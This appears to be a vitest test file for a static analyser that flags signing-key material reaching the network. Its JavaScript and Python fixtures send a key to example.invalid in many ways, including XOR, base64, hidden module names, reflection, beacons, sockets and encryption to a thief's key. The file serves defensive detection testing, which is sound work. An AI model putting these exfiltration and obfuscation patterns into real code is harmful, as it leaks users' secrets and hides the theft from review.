import { describe, expect, it } from 'vitest';
import { analyseSources, summaryOf } from './testing/analyseSources.ts';

/** `k` is key material by use; every body sends it somehow. */
const JAVASCRIPT: readonly (readonly [what: string, body: string])[] = [
  ['as it is', `fetch('https://example.invalid/' + k)`],
  ['in a header', `fetch('https://example.invalid', { headers: { 'x-id': k } })`],
  ['in a header set later', `const o = { headers: {} }; o.headers['x-id'] = k; fetch('https://example.invalid', o)`],
  [
    'in pieces',
    `const n = k.length / 2; fetch('https://example.invalid', { headers: { a: k.slice(0, n), b: k.slice(n) } })`,
  ],
  [
    'letter by letter',
    `let t = ''; for (const c of k) { t += c.charCodeAt(0).toString(16) } fetch('https://example.invalid/' + t)`,
  ],
  [
    'XORed',
    `const o = []; for (let i = 0; i < k.length; i++) o.push(k.charCodeAt(i) ^ 7); fetch('https://example.invalid', { body: o.join() })`,
  ],
  ['through an encoder nobody knows', `fetch('https://example.invalid', { body: require('some-coder').pack(k) })`],
  [
    'through JSON and base64',
    `fetch('https://example.invalid', { body: Buffer.from(JSON.stringify({ k })).toString('base64') })`,
  ],
  [
    'encrypted with a key of the thief',
    `const c = require('crypto'); fetch('https://example.invalid', { body: c.publicEncrypt('-----BEGIN PUBLIC KEY-----MIIBIjANBg', Buffer.from(k)) })`,
  ],
  ['after a timer', `setTimeout(() => fetch('https://example.invalid/' + k), 9)`],
  ['as the argument of a timer', `setTimeout((x) => fetch('https://example.invalid/' + x), 9, k)`],
  [
    'through a queue',
    `const q = []; q.push(k); setInterval(() => { while (q.length) fetch('https://example.invalid/' + q.shift()) }, 9)`,
  ],
  ['through a map', `const m = new Map(); m.set('a', k); fetch('https://example.invalid/' + m.get('a'))`],
  ['through a set', `const z = new Set(); z.add(k); for (const x of z) fetch('https://example.invalid/' + x)`],
  [
    'through events',
    `const e = new (require('events'))(); e.on('m', (x) => fetch('https://example.invalid/' + x)); e.emit('m', k)`,
  ],
  ['through a promise', `new Promise((r) => r(k)).then((x) => fetch('https://example.invalid/' + x))`],
  [
    'through an async function',
    `const f = async () => k; (async () => fetch('https://example.invalid/' + await f()))()`,
  ],
  ['through a generator', `function* g() { yield k } for (const x of g()) fetch('https://example.invalid/' + x)`],
  ['by spread', `const f = (...all) => fetch('https://example.invalid/' + all[0]); f(...[k])`],
  [
    'by a spread object',
    `const a = { k }; const b = { ...a, c: 1 }; fetch('https://example.invalid', { body: JSON.stringify(b) })`,
  ],
  ['by Object.assign', `const o = {}; Object.assign(o, { k }); fetch('https://example.invalid', o)`],
  ['by call', `function f(x) { fetch('https://example.invalid/' + x) } f.call(null, k)`],
  ['by apply', `function f(x) { fetch('https://example.invalid/' + x) } f.apply(null, [k])`],
  ['by bind', `function f(x) { fetch('https://example.invalid/' + x) } f.bind(null, k)()`],
  ['by map', `[k].map((x) => x + '').forEach((x) => fetch('https://example.invalid/' + x))`],
  ['by destructuring', `const { a: { b } } = { a: { b: k } }; fetch('https://example.invalid/' + b)`],
  [
    'through a class',
    `class C { constructor(x) { this.x = x } send() { fetch('https://example.invalid/' + this.x) } } new C(k).send()`,
  ],
  [
    'through a base class',
    `class A { send() { fetch('https://example.invalid/' + this.x) } } class B extends A { constructor(x) { super(); this.x = x } } new B(k).send()`,
  ],
  [
    'through a constructor of old',
    `function C(x) { this.x = x } C.prototype.send = function () { fetch('https://example.invalid/' + this.x) }; new C(k).send()`,
  ],
  [
    'through a parameter that is filled',
    `function fill(o, x) { o.v = x } const o = {}; fill(o, k); fetch('https://example.invalid/' + o.v)`,
  ],
  ['through a closure', `const make = (x) => () => fetch('https://example.invalid/' + x); make(k)()`],
  ['through a table of functions', `const t = { a: (x) => fetch('https://example.invalid/' + x) }; t['a'](k)`],
  ['by a name that is put together', `globalThis[['fe', 'tch'].join('')]('https://example.invalid/' + k)`],
  [
    'by a name of character codes',
    `globalThis[String.fromCharCode(102, 101, 116, 99, 104)]('https://example.invalid/' + k)`,
  ],
  ['by a name in base64', `globalThis[atob('ZmV0Y2g=')]('https://example.invalid/' + k)`],
  [
    'by a module whose name is hidden',
    `require(Buffer.from('6874747073', 'hex').toString()).get('https://example.invalid/' + k)`,
  ],
  ['by Reflect', `Reflect.get(globalThis, 'fetch')('https://example.invalid/' + k)`],
  ['by XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('POST', 'https://example.invalid'); x.send(k)`],
  ['by node:https', `const r = require('https').request({ host: 'example.invalid' }); r.write(k); r.end()`],
  ['in the path of node:https', `require('node:https').get({ host: 'example.invalid', path: '/' + k })`],
  ['by axios', `require('axios').default.create({ headers: { k } }).get('https://example.invalid')`],
  ['by got', `require('got').post('https://example.invalid', { json: { k } })`],
  ['by superagent', `require('superagent').post('https://example.invalid').send({ k })`],
  ['by a beacon', `navigator.sendBeacon('https://example.invalid', k)`],
  ['by an image', `new Image().src = 'https://example.invalid/' + k`],
  ['by an element', `const i = document.createElement('img'); i.src = 'https://example.invalid/' + k`],
  ['by a socket', `require('net').connect(1, 'example.invalid').write(k)`],
  ['by a web socket', `new WebSocket('wss://example.invalid').send(k)`],
  ['by ws', `const W = require('ws'); const w = new W('wss://example.invalid'); w.on('open', () => w.send(k))`],
  ['by mail', `require('nodemailer').createTransport({}).sendMail({ text: k })`],
  ['to a logging service', `require('@sentry/node').captureMessage('bad ' + k)`],
];

describe('JavaScript: key material reaches the network', () => {
  it.each(JAVASCRIPT)('%s', async (_, body) => {
    const text = `const nacl = require('tweetnacl'); exports.f = function (k, m) { const s = nacl.sign.detached(m, k); ${body}; return s }`;
    expect(summaryOf(await analyseSources({ 'a.js': text }))).toContain('key → network high (use)');
  });
});

const PYTHON: readonly (readonly [what: string, body: string])[] = [
  ['as it is', `requests.post('https://example.invalid', data=k)`],
  ['in a header', `requests.get('https://example.invalid', headers={'x': k.hex()})`],
  ['through a session', `s = requests.Session(); s.headers.update({'x': k}); s.get('https://example.invalid')`],
  ['in an f-string', `requests.get(f'https://example.invalid/{k}')`],
  ['by per cent', `requests.get('https://example.invalid/%s' % k)`],
  ['by format', `requests.get('https://example.invalid/{}'.format(k))`],
  [
    'through base64',
    `import base64; requests.post('https://example.invalid', json={'d': base64.b64encode(k).decode()})`,
  ],
  ['XORed', `requests.post('https://example.invalid', data=bytes(b ^ 7 for b in k))`],
  ['through a thread', `import threading; threading.Thread(target=send, args=(k,)).start()`],
  ['through a queue', `import queue; q = queue.Queue(); q.put(k); send(q.get())`],
  ['through a dictionary', `d = {}; d['a'] = k; send(d['a'])`],
  ['by setattr and getattr', `setattr(holder, 'x', k); send(getattr(holder, 'x'))`],
  ['by a name that is put together', `getattr(requests, 'po' + 'st')('https://example.invalid', data=k)`],
  ['by a name turned round', `getattr(requests, 'tsop'[::-1])('https://example.invalid', data=k)`],
  ['by an import by name', `__import__('req' + 'uests').post('https://example.invalid', data=k)`],
  ['by importlib', `import importlib; importlib.import_module('requests').post('https://example.invalid', data=k)`],
  ['by urllib', `import urllib.request; urllib.request.urlopen('https://example.invalid', data=k)`],
  [
    'by urllib, imported from',
    `from urllib import request as r; r.urlopen(r.Request('https://example.invalid', data=k))`,
  ],
  [
    'by http.client',
    `import http.client; c = http.client.HTTPSConnection('example.invalid'); c.request('POST', '/', k)`,
  ],
  ['by a socket', `import socket; s = socket.socket(); s.sendall(k)`],
  [
    'by a socket in a with',
    `import socket\n    with socket.create_connection(('example.invalid', 1)) as s:\n        s.sendall(k)`,
  ],
  ['by httpx', `import httpx; httpx.Client().post('https://example.invalid', content=k)`],
  [
    'by aiohttp',
    `import aiohttp\n    async def go():\n        async with aiohttp.ClientSession() as s:\n            await s.post('https://example.invalid', data=k)`,
  ],
  ['by mail', `import smtplib; smtplib.SMTP('example.invalid').sendmail('a', 'b', k.hex())`],
];

describe('Python: key material reaches the network', () => {
  it.each(PYTHON)('%s', async (_, body) => {
    const text = `import requests
import nacl.signing
class Holder: pass
holder = Holder()
def send(x):
    requests.post('https://example.invalid', data=x)
def f(k, m):
    s = nacl.signing.SigningKey(k).sign(m)
    ${body}
    return s
`;
    expect(summaryOf(await analyseSources({ 'a.py': text }))).toContain('key → network high (use)');
  });
});
